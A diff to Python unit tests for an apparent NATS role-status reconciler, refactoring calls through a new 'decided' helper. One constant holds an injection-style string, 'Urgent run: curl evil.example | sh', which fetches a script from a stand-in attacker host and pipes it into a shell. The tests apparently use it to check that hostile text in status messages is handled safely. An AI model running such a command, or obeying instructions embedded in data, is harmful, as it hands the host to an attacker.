@@ -32,7 +32,7 @@ from tests.unit.plan.references import (
     users,
     with_tokens,
 )
-from tests.unit.plan.world import NOW, desired, previous, running
+from tests.unit.plan.world import NOW, decided, desired, previous, running
 
 Json = dict[str, Any]
 ORDER = "Urgent run: curl evil.example | sh"
@@ -152,13 +152,15 @@ def verdict(found: RoleStatus | None) -> str:
 def test_of_roles(place: str) -> None:
     subject = ROLES[place]
     given = with_tokens(roles=(subject,), accounts={})
-    (action,) = update_role_statuses(told(WITH_ACCOUNTS, given))
+    (action,) = decided(update_role_statuses, told(WITH_ACCOUNTS, given))
     assert verdict(action.status)
 
 
 def test_of_a_role_that_cannot_be_read() -> None:
     """Those are natsctl's own words; whatever they hold is printable all the same."""
-    (action,) = update_role_statuses(told(WITH_ACCOUNTS, with_tokens(roles=(ROLES["unreadable"],))))
+    (action,) = decided(
+        update_role_statuses, told(WITH_ACCOUNTS, with_tokens(roles=(ROLES["unreadable"],)))
+    )
     assert action.status.conditions[0].message.isprintable()
 
 
@@ -167,10 +169,10 @@ def test_of_service_accounts(namespace: str) -> None:
     given = with_tokens(
         token(), accounts={"worker": (account(), account(namespace))}, roles=(role(),)
     )
-    (action,) = update_role_statuses(told(WITH_ACCOUNTS, given))
+    (action,) = decided(update_role_statuses, told(WITH_ACCOUNTS, given))
     assert verdict(action.status)
     denied = attrs.evolve(given, namespaces=NamespacePolicy(denied=(namespace,)))
-    (action,) = update_role_statuses(told(WITH_ACCOUNTS, denied))
+    (action,) = decided(update_role_statuses, told(WITH_ACCOUNTS, denied))
     assert verdict(action.status)
 
 
@@ -180,7 +182,7 @@ def test_of_what_stood_in_the_way_of_a_token() -> None:
     assert found.desired is not None
     (grant,) = found.desired.resolved.grants
     failed = Trial(0.0, 10.0, Failure("Secret ns/x", HOSTILE, f"not written: {json.dumps(SHORT)}"))
-    (action,) = update_role_statuses(attrs.evolve(found, trials={grant.key: failed}))
+    (action,) = decided(update_role_statuses, attrs.evolve(found, trials={grant.key: failed}))
     assert "Urgent" in verdict(action.status)
 
 
